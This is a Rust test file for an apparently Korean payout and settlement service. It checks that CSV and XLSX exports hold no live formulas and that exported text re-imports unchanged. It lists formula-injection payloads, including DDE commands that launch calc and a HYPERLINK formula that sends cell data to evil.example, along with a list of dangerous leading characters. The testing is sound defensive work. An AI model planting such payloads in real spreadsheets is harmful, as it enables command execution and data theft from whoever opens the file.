//! What leaves as a file: no cell of it is a formula, whatever somebody wrote into the books.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use serde_json::json;

use crate::{
    house::{House, Words},
    support::read,
};

/// How a text becomes a formula in one spreadsheet or another.
const FORMULAS: [&str; 12] = [
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\"=1+1\"",
    "a;=1+1",
    "a,=1+1",
    "a|=1+1",
    "＝1+1",
    "'=1+1",
    ";=1+1",
];

/// What a spreadsheet runs, at the beginning of a cell.
const STARTS: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠',
];

fn is_amount(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
}

/// Reads a CSV as programs of each country do: with any separator.
fn check_csv(path: &str, bytes: &[u8], wanted: &str) {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text.trim_start_matches('\u{feff}').to_owned(),
        Err(_) => encoding_rs::EUC_KR.decode(bytes).0.into_owned(),
    };
    let mut found = 0;
    for delimiter in [b',', b';', b'\t', b'|'] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(delimiter)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let numeric = delimiter == b',' && is_amount(cell);
                assert!(
                    numeric || !cell.starts_with(STARTS),
                    "{path} by {:?}: {cell:?}",
                    char::from(delimiter)
                );
                found += usize::from(delimiter == b',' && cell.contains(wanted));
            }
        }
    }
    assert!(
        found > 0 || wanted.is_empty(),
        "{path} does not hold {wanted:?}: {text}"
    );
}

/// No part of a workbook holds a formula, and a text is typed as one.
fn check_xlsx(path: &str, bytes: &[u8], wanted: &str) {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    for i in 0..archive.len() {
        let mut part = archive.by_index(i).unwrap();
        let name = part.name().unwrap().to_string();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        assert!(
            !text.contains("<f>") && !text.contains("<f "),
            "{path}: a formula in {name}"
        );
        assert!(
            !name.contains("externalLink") && !text.contains("DDE"),
            "{path}: {name}"
        );
        assert!(!text.contains("<hyperlink"), "{path}: a link in {name}");
    }
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let mut found = 0;
    for name in book.sheet_names() {
        assert!(
            book.worksheet_formula(&name)
                .unwrap()
                .cells()
                .next()
                .is_none()
        );
        for (.., cell) in book.worksheet_range(&name).unwrap().cells() {
            match cell {
                Data::String(text) => found += usize::from(text.contains(wanted)),
                Data::Float(_)
                | Data::Int(_)
                | Data::Empty
                | Data::DateTime(_)
                | Data::DateTimeIso(_) => {}
                other => panic!("{path}: {other:?}"),
            }
        }
    }
    assert!(
        found > 0 || wanted.is_empty(),
        "{path} does not hold {wanted:?}"
    );
}

async fn check(house: &House, path: &str, wanted: &str) {
    let answer = house.get(path).await;
    let status = answer.status();
    let kind = answer.headers()["content-type"]
        .to_str()
        .unwrap()
        .to_owned();
    let bytes = answer.bytes().await.unwrap();
    assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&bytes));
    match kind.contains("csv") {
        true => check_csv(path, &bytes, wanted),
        false => check_xlsx(path, &bytes, wanted),
    }
}

#[tokio::test]
async fn no_cell_of_any_file_is_a_formula() {
    for formula in FORMULAS {
        let house = House::open(&Words::all(formula)).await;
        let batch = house.batch;
        let month = format!("from={}&to={}", house.day, house.day.plus_days(5));
        // What the books hold is what was written.
        let kept: String = house.app.sql("select name from partner where id = 'farm'");
        assert_eq!(kept, formula.trim());
        for (path, wanted) in [
            ("/admin/partners/export.csv".to_owned(), "1"),
            ("/admin/partners/export.xlsx".into(), formula),
            (format!("/admin/statements/farm/statement.csv?{month}"), "1"),
            (
                format!("/admin/statements/farm/statement.xlsx?{month}"),
                formula,
            ),
            (format!("/admin/payouts/{batch}/file"), ""),
            (format!("/api/payouts/{batch}/file"), ""),
            (format!("/admin/payouts/{batch}/withholding"), ""),
            ("/admin/partners/import/template.csv".into(), ""),
            ("/admin/partners/import/template.xlsx".into(), ""),
        ] {
            let answer = house.get(&path).await;
            // A file of a batch of which nothing waits is refused, and says so.
            if answer.status() == 409 && wanted.is_empty() {
                continue;
            }
            check(&house, &path, wanted).await;
        }
    }
}

#[tokio::test]
async fn every_banks_file_is_neutral_whichever_way_it_is_written() {
    for formula in ["=cmd|'/c calc'!A1", "-2+3", "@SUM(1)", "+82 10"] {
        let house = House::open(&Words::all(formula)).await;
        // What was held is released, and put into a batch that waits for the bank.
        let settlement = house.settlement;
        let release = format!("/api/settlements/{settlement}/release");
        assert_eq!(
            house
                .app
                .post(&release, &json!({ "reason": "확인" }))
                .await
                .status(),
            200
        );
        let until = house.day.plus_days(5);
        house
            .app
            .clock
            .advance(std::time::Duration::from_secs(2 * 86_400));
        let (status, made) = read(
            house
                .app
                .post("/api/payouts", &json!({ "until": until }))
                .await,
        )
        .await;
        assert_eq!(status, 201, "{made}");
        let batch = made["batch"]["id"].as_i64().unwrap();
        let templates = house.app.json("/api/bank-templates").await;
        let names: Vec<String> = templates["items"]
            .as_array()
            .or(templates.as_array())
            .unwrap()
            .iter()
            .map(|one| one["name"].as_str().unwrap().to_owned())
            .collect();
        assert!(!names.is_empty(), "{templates}");
        for name in names {
            let encoded: String = url::form_urlencoded::byte_serialize(name.as_bytes()).collect();
            for path in [
                format!("/api/payouts/{batch}/file?template={encoded}"),
                format!("/admin/payouts/templates/{encoded}/sample"),
            ] {
                check(&house, &path, "").await;
            }
        }
    }
}

#[tokio::test]
async fn what_was_written_comes_back_in_the_same_words() {
    for formula in FORMULAS {
        let house = House::open(&Words::all(formula)).await;
        for path in ["/admin/partners/export.csv", "/admin/partners/export.xlsx"] {
            let file = house.get(path).await.bytes().await.unwrap();
            let before: String = house
                .app
                .sql("select name || '|' || holder || '|' || memo from partner where id = 'farm'");
            let request = house.app.http.post(house.app.url("/api/partners/import"));
            let answer = request
                .bearer_auth(crate::support::TOKEN)
                .body(file.to_vec())
                .send()
                .await
                .unwrap();
            let (status, said) = read(answer).await;
            assert!(
                status == 200 || status == 201,
                "{formula:?} {path}: {status} {said}"
            );
            let after: String = house
                .app
                .sql("select name || '|' || holder || '|' || memo from partner where id = 'farm'");
            assert_eq!(before, after, "{path}");
        }
    }
}
